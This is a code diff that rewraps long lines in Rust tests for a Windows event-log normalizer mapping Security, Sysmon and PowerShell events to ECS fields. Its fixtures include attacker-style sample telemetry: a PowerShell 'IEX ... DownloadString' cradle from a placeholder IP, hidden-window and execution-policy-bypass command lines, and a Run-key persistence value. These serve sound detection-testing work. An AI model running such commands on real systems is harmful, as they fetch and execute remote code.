@@ -30,7 +30,10 @@ fn at<'a>(j: &'a J, path: &str) -> &'a J {
 
 fn set(j: &J, path: &str) -> Vec<String> {
     let mut v: Vec<String> = match at(j, path) {
-        J::Array(a) => a.iter().map(|x| x.as_str().unwrap_or("?").to_owned()).collect(),
+        J::Array(a) => a
+            .iter()
+            .map(|x| x.as_str().unwrap_or("?").to_owned())
+            .collect(),
         J::Null => vec![],
         other => vec![other.to_string()],
     };
@@ -60,7 +63,10 @@ const LOGON_DATA: &[(&str, &str)] = &[
     ("SubjectUserName", "WS042$"),
     ("SubjectDomainName", "CONTOSO"),
     ("SubjectLogonId", "0x3e7"),
-    ("TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-1119"),
+    (
+        "TargetUserSid",
+        "S-1-5-21-1004336348-1177238915-682003330-1119",
+    ),
     ("TargetUserName", "m.rossi"),
     ("TargetDomainName", "CONTOSO"),
     ("TargetLogonId", "0x5c2a1f"),
@@ -87,7 +93,10 @@ fn builtin_tables_load_and_from_dir_matches() {
     std::fs::write(dir.path().join("notes.txt"), "ignored").unwrap();
     let a = WindowsNormalizer::builtin().unwrap();
     let b = WindowsNormalizer::from_dir(dir.path()).unwrap();
-    let raw = event_xml(&security_system(4624, "0x8020000000000000", 1), &data(LOGON_DATA));
+    let raw = event_xml(
+        &security_system(4624, "0x8020000000000000", 1),
+        &data(LOGON_DATA),
+    );
     assert_eq!(run(&a, &raw).1, run(&b, &raw).1);
 }
 
@@ -97,7 +106,9 @@ fn table_errors_name_the_file() {
     let e = WindowsNormalizer::from_dir(dir.path()).unwrap_err();
     assert!(matches!(e, TableError::Empty { .. }), "{e}");
     std::fs::write(dir.path().join("bad.yaml"), "events: [{id: x}]\n").unwrap();
-    let e = WindowsNormalizer::from_dir(dir.path()).unwrap_err().to_string();
+    let e = WindowsNormalizer::from_dir(dir.path())
+        .unwrap_err()
+        .to_string();
     assert!(e.starts_with("bad.yaml"), "{e}");
     let e = WindowsNormalizer::from_dir(&dir.path().join("missing")).unwrap_err();
     assert!(matches!(e, TableError::Io { .. }));
@@ -105,7 +116,10 @@ fn table_errors_name_the_file() {
 
 #[test]
 fn security_logon_xml() {
-    let raw = event_xml(&security_system(4624, "0x8020000000000000", 5501), &data(LOGON_DATA));
+    let raw = event_xml(
+        &security_system(4624, "0x8020000000000000", 5501),
+        &data(LOGON_DATA),
+    );
     let j = ok(&raw);
     assert_eq!(at(&j, "@timestamp"), "2024-03-11T09:41:07.552821100Z");
     assert_eq!(at(&j, "event.kind"), "event");
@@ -116,12 +130,18 @@ fn security_logon_xml() {
     assert_eq!(at(&j, "event.category"), &json!(["authentication"]));
     assert_eq!(at(&j, "event.type"), &json!(["start"]));
     assert_eq!(at(&j, "event.outcome"), "success");
-    assert_eq!(at(&j, "event.provider"), "Microsoft-Windows-Security-Auditing");
+    assert_eq!(
+        at(&j, "event.provider"),
+        "Microsoft-Windows-Security-Auditing"
+    );
     assert_eq!(at(&j, "host.name"), "ws042.ad.contoso.test");
     assert_eq!(at(&j, "log.level"), "information");
     assert_eq!(at(&j, "user.name"), "m.rossi");
     assert_eq!(at(&j, "user.domain"), "CONTOSO");
-    assert_eq!(at(&j, "user.id"), "S-1-5-21-1004336348-1177238915-682003330-1119");
+    assert_eq!(
+        at(&j, "user.id"),
+        "S-1-5-21-1004336348-1177238915-682003330-1119"
+    );
     assert_eq!(at(&j, "source.ip"), "198.51.100.23");
     assert_eq!(at(&j, "source.port"), 50112);
     assert_eq!(at(&j, "source.domain"), "WS042");
@@ -140,7 +160,10 @@ fn security_logon_xml() {
     assert_eq!(at(&j, "winlog.version"), 2);
     assert_eq!(at(&j, "winlog.process.pid"), 716);
     assert_eq!(at(&j, "winlog.process.thread.id"), 4120);
-    assert_eq!(at(&j, "winlog.provider_guid"), "{54849625-5478-4994-a5ba-3e3b0328c30d}");
+    assert_eq!(
+        at(&j, "winlog.provider_guid"),
+        "{54849625-5478-4994-a5ba-3e3b0328c30d}"
+    );
     // Event data keeps every item by its literal name, trailing spaces included.
     assert_eq!(j["winlog"]["event_data"]["LogonProcessName"], "User32 ");
     assert_eq!(j["winlog"]["event_data"]["TransmittedServices"], "-");
@@ -163,11 +186,17 @@ fn failed_logon_uses_keywords_and_status_tables() {
             *v = "S-1-0-0";
         }
     }
-    let j = ok(&event_xml(&security_system(4625, "0x8010000000000000", 7), &data(&d)));
+    let j = ok(&event_xml(
+        &security_system(4625, "0x8010000000000000", 7),
+        &data(&d),
+    ));
     assert_eq!(at(&j, "event.action"), "logon-failed");
     assert_eq!(at(&j, "event.outcome"), "failure");
     assert_eq!(at(&j, "winlog.logon.type"), "Network");
-    assert_eq!(at(&j, "winlog.logon.failure.reason"), "Unknown user name or bad password.");
+    assert_eq!(
+        at(&j, "winlog.logon.failure.reason"),
+        "Unknown user name or bad password."
+    );
     assert_eq!(
         at(&j, "winlog.logon.failure.sub_status"),
         "User logon with misspelled or bad password"
@@ -179,15 +208,24 @@ fn failed_logon_uses_keywords_and_status_tables() {
 #[test]
 fn process_creation_4688() {
     let d = [
-        ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1119"),
+        (
+            "SubjectUserSid",
+            "S-1-5-21-1004336348-1177238915-682003330-1119",
+        ),
         ("SubjectUserName", "m.rossi"),
         ("SubjectDomainName", "CONTOSO"),
         ("SubjectLogonId", "0x5c2a1f"),
         ("NewProcessId", "0x1f44"),
-        ("NewProcessName", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
+        (
+            "NewProcessName",
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        ),
         ("TokenElevationType", "%%1938"),
         ("ProcessId", "0x12d8"),
-        ("CommandLine", "powershell.exe -NoP -w hidden -c \"Get-Process | Out-File C:\\Temp\\p.txt\""),
+        (
+            "CommandLine",
+            "powershell.exe -NoP -w hidden -c \"Get-Process | Out-File C:\\Temp\\p.txt\"",
+        ),
         ("TargetUserSid", "S-1-0-0"),
         ("TargetUserName", "-"),
         ("TargetDomainName", "-"),
@@ -195,7 +233,10 @@ fn process_creation_4688() {
         ("ParentProcessName", "C:\\Windows\\explorer.exe"),
         ("MandatoryLabel", "S-1-16-8192"),
     ];
-    let j = ok(&event_xml(&security_system(4688, "0x8020000000000000", 9), &data(&d)));
+    let j = ok(&event_xml(
+        &security_system(4688, "0x8020000000000000", 9),
+        &data(&d),
+    ));
     assert_eq!(at(&j, "event.action"), "created-process");
     assert_eq!(at(&j, "event.category"), &json!(["process"]));
     assert_eq!(at(&j, "process.pid"), 8004);
@@ -208,7 +249,14 @@ fn process_creation_4688() {
     assert_eq!(at(&j, "process.parent.name"), "explorer.exe");
     assert_eq!(
         at(&j, "process.args"),
-        &json!(["powershell.exe", "-NoP", "-w", "hidden", "-c", "Get-Process | Out-File C:\\Temp\\p.txt"])
+        &json!([
+            "powershell.exe",
+            "-NoP",
+            "-w",
+            "hidden",
+            "-c",
+            "Get-Process | Out-File C:\\Temp\\p.txt"
+        ])
     );
     assert_eq!(at(&j, "user.name"), "m.rossi");
     // As in Elastic, only `-` counts as no value: the NULL SID is kept.
@@ -219,7 +267,10 @@ fn process_creation_4688() {
 #[test]
 fn account_and_group_management() {
     let subject = [
-        ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-500"),
+        (
+            "SubjectUserSid",
+            "S-1-5-21-1004336348-1177238915-682003330-500",
+        ),
         ("SubjectUserName", "admin.jk"),
         ("SubjectDomainName", "CONTOSO"),
         ("SubjectLogonId", "0x8d1e2"),
@@ -230,7 +281,10 @@ fn account_and_group_management() {
         ("TargetDomainName", "CONTOSO"),
         ("TargetSid", "S-1-5-21-1004336348-1177238915-682003330-2203"),
     ]);
-    let j = ok(&event_xml(&security_system(4720, "0x8020000000000000", 3), &data(&d)));
+    let j = ok(&event_xml(
+        &security_system(4720, "0x8020000000000000", 3),
+        &data(&d),
+    ));
     assert_eq!(at(&j, "event.action"), "added-user-account");
     assert_eq!(at(&j, "event.type"), &json!(["user", "creation"]));
     assert_eq!(at(&j, "user.name"), "admin.jk");
@@ -247,15 +301,24 @@ fn account_and_group_management() {
         ("PrivilegeList", "-"),
     ]);
     for id in [4728, 4732, 4756] {
-        let j = ok(&event_xml(&security_system(id, "0x8020000000000000", 4), &data(&d)));
+        let j = ok(&event_xml(
+            &security_system(id, "0x8020000000000000", 4),
+            &data(&d),
+        ));
         assert_eq!(at(&j, "event.action"), "added-member-to-group", "{id}");
         assert_eq!(at(&j, "group.name"), "Domain Admins");
-        assert_eq!(at(&j, "group.id"), "S-1-5-21-1004336348-1177238915-682003330-512");
+        assert_eq!(
+            at(&j, "group.id"),
+            "S-1-5-21-1004336348-1177238915-682003330-512"
+        );
         assert_eq!(at(&j, "user.target.name"), "Svc Backup");
         assert_eq!(at(&j, "user.target.domain"), "contoso");
         assert_eq!(set(&j, "related.user"), ["Svc Backup", "admin.jk"]);
     }
-    let j = ok(&event_xml(&security_system(4733, "0x8020000000000000", 4), &data(&d)));
+    let j = ok(&event_xml(
+        &security_system(4733, "0x8020000000000000", 4),
+        &data(&d),
+    ));
     assert_eq!(at(&j, "event.action"), "removed-member-from-group");
 }
 
@@ -308,18 +371,27 @@ fn sysmon_process_create() {
     assert_eq!(at(&j, "event.outcome"), &J::Null);
     assert_eq!(at(&j, "process.pid"), 6120);
     assert_eq!(at(&j, "process.name"), "certutil.exe");
-    assert_eq!(at(&j, "process.entity_id"), "{8a4c0f2e-9a10-6623-2a01-000000001d00}");
+    assert_eq!(
+        at(&j, "process.entity_id"),
+        "{8a4c0f2e-9a10-6623-2a01-000000001d00}"
+    );
     assert_eq!(at(&j, "process.parent.name"), "cmd.exe");
     assert_eq!(at(&j, "process.parent.pid"), 5988);
     assert_eq!(at(&j, "process.pe.original_file_name"), "CertUtil.exe");
-    assert_eq!(at(&j, "process.hash.md5"), "0f3b2a0c3e8b5d1a9c7e6f5d4c3b2a19");
+    assert_eq!(
+        at(&j, "process.hash.md5"),
+        "0f3b2a0c3e8b5d1a9c7e6f5d4c3b2a19"
+    );
     assert_eq!(at(&j, "process.pe.imphash"), &J::Null);
     assert_eq!(set(&j, "related.hash").len(), 2);
     assert_eq!(at(&j, "user.name"), "kim");
     assert_eq!(at(&j, "user.domain"), "LAB");
     assert_eq!(at(&j, "user.id"), "S-1-5-18");
     assert_eq!(at(&j, "rule.name"), &J::Null);
-    assert_eq!(at(&j, "winlog.task"), "Process Create (rule: ProcessCreate)");
+    assert_eq!(
+        at(&j, "winlog.task"),
+        "Process Create (rule: ProcessCreate)"
+    );
     assert_eq!(at(&j, "winlog.user.identifier"), "S-1-5-18");
 }
 
@@ -344,7 +416,10 @@ fn sysmon_network_dns_registry_file_and_image_load() {
             ("DestinationPortName", "http"),
         ],
     ));
-    assert_eq!(at(&j, "event.type"), &json!(["start", "connection", "protocol"]));
+    assert_eq!(
+        at(&j, "event.type"),
+        &json!(["start", "connection", "protocol"])
+    );
     assert_eq!(at(&j, "source.ip"), "10.20.30.40");
     assert_eq!(at(&j, "source.port"), 49811);
     assert_eq!(at(&j, "destination.ip"), "203.0.113.9");
@@ -362,7 +437,10 @@ fn sysmon_network_dns_registry_file_and_image_load() {
             ("ProcessId", "6120"),
             ("QueryName", "updates.example.net"),
             ("QueryStatus", "0"),
-            ("QueryResults", "type:  5 cdn.example.net;::ffff:192.0.2.44;"),
+            (
+                "QueryResults",
+                "type:  5 cdn.example.net;::ffff:192.0.2.44;",
+            ),
             ("Image", "C:\\Windows\\System32\\certutil.exe"),
         ],
     ));
@@ -375,7 +453,10 @@ fn sysmon_network_dns_registry_file_and_image_load() {
     );
     assert_eq!(at(&j, "dns.resolved_ip"), &json!(["192.0.2.44"]));
     assert_eq!(set(&j, "related.ip"), ["192.0.2.44"]);
-    assert_eq!(set(&j, "related.hosts"), ["cdn.example.net", "updates.example.net"]);
+    assert_eq!(
+        set(&j, "related.hosts"),
+        ["cdn.example.net", "updates.example.net"]
+    );
 
     let j = ok(&sysmon(
         13,
@@ -387,7 +468,10 @@ fn sysmon_network_dns_registry_file_and_image_load() {
             ("Details", "C:\\Users\\kim\\AppData\\Local\\Temp\\x.exe"),
         ],
     ));
-    assert_eq!(at(&j, "event.category"), &json!(["configuration", "registry"]));
+    assert_eq!(
+        at(&j, "event.category"),
+        &json!(["configuration", "registry"])
+    );
     assert_eq!(at(&j, "registry.hive"), "HKU");
     assert_eq!(at(&j, "registry.value"), "Updater");
     assert_eq!(at(&j, "registry.data.type"), "REG_SZ");
@@ -421,7 +505,10 @@ fn sysmon_network_dns_registry_file_and_image_load() {
     assert_eq!(at(&j, "event.action"), &json!(["Image loaded", "load"]));
     assert_eq!(at(&j, "event.category"), &json!(["process", "library"]));
     assert_eq!(at(&j, "dll.name"), "helper.dll");
-    assert_eq!(at(&j, "dll.hash.sha1"), "abcdef0123456789abcdef0123456789abcdef01");
+    assert_eq!(
+        at(&j, "dll.hash.sha1"),
+        "abcdef0123456789abcdef0123456789abcdef01"
+    );
     assert_eq!(at(&j, "dll.pe.imphash"), "1234567890abcdef1234567890abcdef");
     assert_eq!(at(&j, "file.code_signature.signed"), false);
     assert_eq!(set(&j, "related.hash").len(), 2);
@@ -516,12 +603,17 @@ fn every_shape_gives_the_same_meaning() {
     // NXLog's zone-less local time is read in the configured zone (Berlin, UTC+1 in March).
     assert_eq!(at(&nxlog, "@timestamp"), "2024-03-11T10:41:07+01:00");
     assert_eq!(at(&nxlog, "log.level"), "information");
-    assert!(nxlog["winlog"]["event_data"].get("SourceModuleName").is_none());
+    assert!(nxlog["winlog"]["event_data"]
+        .get("SourceModuleName")
+        .is_none());
 }
 
 #[test]
 fn winlogbeat_document_with_only_the_original_xml() {
-    let xml = event_xml(&security_system(4624, "0x8020000000000000", 5501), &data(LOGON_DATA));
+    let xml = event_xml(
+        &security_system(4624, "0x8020000000000000", 5501),
+        &data(LOGON_DATA),
+    );
     let doc = json!({"@timestamp": "2024-03-11T09:41:07Z", "event": {"original": xml}});
     let a = ok(&doc.to_string());
     let b = ok(&xml);
@@ -535,31 +627,46 @@ fn powershell_module_logging_context_info() {
     let body = data(&[
         ("ContextInfo", ctx_info),
         ("UserData", ""),
-        ("Payload", "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\""),
+        (
+            "Payload",
+            "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"",
+        ),
     ]);
     let j = ok(&event_xml(sys, &body));
     assert_eq!(at(&j, "event.dataset"), "windows.powershell_operational");
     assert_eq!(at(&j, "event.category"), &json!(["process"]));
     assert_eq!(at(&j, "event.type"), &json!(["info"]));
-    assert_eq!(at(&j, "process.command_line"), "powershell.exe -ep bypass -f C:\\Temp\\s.ps1");
+    assert_eq!(
+        at(&j, "process.command_line"),
+        "powershell.exe -ep bypass -f C:\\Temp\\s.ps1"
+    );
     assert_eq!(at(&j, "process.title"), "ConsoleHost");
     assert_eq!(at(&j, "powershell.command.name"), "Invoke-WebRequest");
     assert_eq!(at(&j, "powershell.sequence"), 21);
     assert_eq!(at(&j, "user.name"), "kim");
     assert_eq!(at(&j, "user.id"), "S-1-5-21-1-2-3-1001");
     assert_eq!(at(&j, "file.name"), "s.ps1");
-    assert_eq!(j["winlog"]["event_data"]["HostApplication"], "powershell.exe -ep bypass -f C:\\Temp\\s.ps1");
+    assert_eq!(
+        j["winlog"]["event_data"]["HostApplication"],
+        "powershell.exe -ep bypass -f C:\\Temp\\s.ps1"
+    );
 
     let sys4104 = sys.replace("<EventID>4103</EventID>", "<EventID>4104</EventID>");
     let body = data(&[
         ("MessageNumber", "1"),
         ("MessageTotal", "1"),
-        ("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"),
+        (
+            "ScriptBlockText",
+            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
+        ),
         ("ScriptBlockId", "5e5a8c9e-aaaa-bbbb-cccc-ddddeeeeffff"),
         ("Path", ""),
     ]);
     let j = ok(&event_xml(&sys4104, &body));
-    assert_eq!(at(&j, "powershell.file.script_block_id"), "5e5a8c9e-aaaa-bbbb-cccc-ddddeeeeffff");
+    assert_eq!(
+        at(&j, "powershell.file.script_block_id"),
+        "5e5a8c9e-aaaa-bbbb-cccc-ddddeeeeffff"
+    );
     assert_eq!(at(&j, "powershell.total"), 1);
 }
 
@@ -601,7 +708,10 @@ fn unknown_provider_gets_the_base_fields() {
 fn bad_input_never_panics_and_keeps_what_it_can() {
     let n = WindowsNormalizer::builtin().unwrap();
     // Truncated XML: the fields read so far are delivered with the failure.
-    let full = event_xml(&security_system(4624, "0x8020000000000000", 1), &data(LOGON_DATA));
+    let full = event_xml(
+        &security_system(4624, "0x8020000000000000", 1),
+        &data(LOGON_DATA),
+    );
     let (r, j) = run(&n, &full[..full.len() / 2]);
     assert!(r.is_err());
     assert_eq!(at(&j, "event.code"), "4624");
